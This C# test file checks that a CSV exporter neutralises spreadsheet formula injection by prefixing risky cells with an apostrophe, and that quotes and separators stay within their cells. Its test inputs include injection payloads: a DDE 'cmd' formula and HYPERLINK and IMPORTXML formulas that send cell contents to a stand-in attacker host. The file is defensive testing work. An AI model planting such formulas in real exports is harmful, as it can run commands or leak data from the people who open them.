using System.Text;
using CsvHelper;
using NarrativeLens.Query;
using NarrativeLens.Store;
using NarrativeLens.Tests.Store;

namespace NarrativeLens.Tests.Query.Exports;

public sealed class CsvTests
{
    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("=cmd|'/c notepad'!B2")]
    [InlineData("+SUM(A1:A9)")]
    [InlineData("-3+2+cmd|' /C notepad'!A1")]
    [InlineData("@SUM(2+2)")]
    [InlineData("\t=2+2")]
    [InlineData("\r=2+2")]
    [InlineData("\n=2+2")]
    [InlineData("   =2+2")]
    [InlineData("\u00A0=2+2")]
    [InlineData("\u200B=2+2")]
    [InlineData("\uFEFF=2+2")]
    [InlineData("\0=2+2")]
    [InlineData("=\u200Bcmd")]
    [InlineData("＝2+2")]
    [InlineData("＋2")]
    [InlineData("－2")]
    [InlineData("＠SUM(2)")]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1;\"more\")")]
    [InlineData("=IMPORTXML(\"https://evil.example/\";\"//b\")")]
    [InlineData("-5; 3")]
    [InlineData("'=2+2")]
    public void A_formula_becomes_text_and_comes_back(string cell)
    {
        Assert.Equal("'" + cell, CsvCells.Safe(cell));
        Assert.Equal(cell, Undone(CsvCells.Safe(cell)));
    }

    [Theory]
    [InlineData("-5.25")]
    [InlineData("+7")]
    [InlineData("-2e-5")]
    [InlineData("a=b")]
    [InlineData("2+2")]
    [InlineData("Mara O'Neil")]
    [InlineData("#NAME?")]
    [InlineData("")]
    public void What_no_spreadsheet_calculates_stays_as_it_is(string cell) => Assert.Equal(cell, CsvCells.Safe(cell));

    [Fact]
    public void Any_cell_comes_back_by_taking_away_one_apostrophe()
    {
        var random = new Random(7);
        const string letters = "'=+-@ \t\r\nab1.;＝\u200B\u202E\"";
        for (var i = 0; i < 5000; i++)
        {
            var cell = string.Concat(Enumerable.Range(0, random.Next(6)).Select(_ => letters[random.Next(letters.Length)]));
            Assert.Equal(cell, Undone(CsvCells.Safe(cell)));
        }
    }

    [Fact]
    public async Task Quotes_commas_and_line_breaks_cannot_leave_their_cell()
    {
        const string title = "a\",\"=1+1\",\"b\r\nc, d";
        await using var temp = await TempStore.OpenAsync();
        await temp.SaveAsync(Some.Analysis(Some.Article("Gold rose.", title, outlet: "One; two;")));
        using var found = await temp.Articles.FindAsync(SamplePress.Read("gold"), Cancellation);
        var output = new StringWriter();
        await Export.WriteCsvAsync(found, "gold", output, Cancellation);
        var records = Records(output.ToString());
        Assert.Equal(2, records.Count);
        Assert.All(records, record => Assert.Equal(ExportColumns.All.Count, record.Length));
        Assert.Equal((title, "One; two;"), (Undone(Cell(records, "title")), Undone(Cell(records, "outlet"))));
        Assert.EndsWith("\r\n", output.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Lists_can_be_taken_apart_again()
    {
        await using var temp = await TempStore.OpenAsync();
        var article = Some.Article("It cost $5 and $6.");
        await temp.SaveAsync(Some.Analysis(article, findings: [Some.Finding(Some.Figure(article, "$5", 5, unit: "a; b")), Some.Finding(Some.Figure(article, "$6", 6, unit: ";c"))]));
        using var found = await temp.Articles.FindAsync(SamplePress.Read("cost"), Cancellation);
        var output = new StringWriter();
        await Export.WriteCsvAsync(found, "cost", output, Cancellation);
        Assert.Equal(["a; b", ";c"], Parts(Undone(Cell(Records(output.ToString()), "units"))));
    }

    private static string Undone(string cell) => cell.StartsWith('\'') ? cell[1..] : cell;

    // As the data dictionary says: from left to right, ";;" is a semicolon and "; " parts two values.
    private static List<string> Parts(string cell)
    {
        var (parts, part) = (new List<string>(), new StringBuilder());
        for (var i = 0; i < cell.Length; i++)
        {
            if (cell[i] != ';')
            {
                part.Append(cell[i]);
            }
            else if (cell[++i] == ';')
            {
                part.Append(';');
            }
            else
            {
                parts.Add(part.ToString());
                part.Clear();
            }
        }

        return [.. parts, part.ToString()];
    }

    private static string Cell(List<string[]> records, string column) => records[1][Array.IndexOf(records[0], column)];

    private static List<string[]> Records(string csv)
    {
        using var reader = CsvReader.Create(new StringReader(csv), new CsvReaderOptions { Separator = ',', MalformedData = CsvMalformedDataHandling.Throw });
        reader.ReadHeader();
        var records = new List<string[]> { reader.Headers.ToArray() };
        while (reader.Read())
        {
            records.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        }

        return records;
    }
}
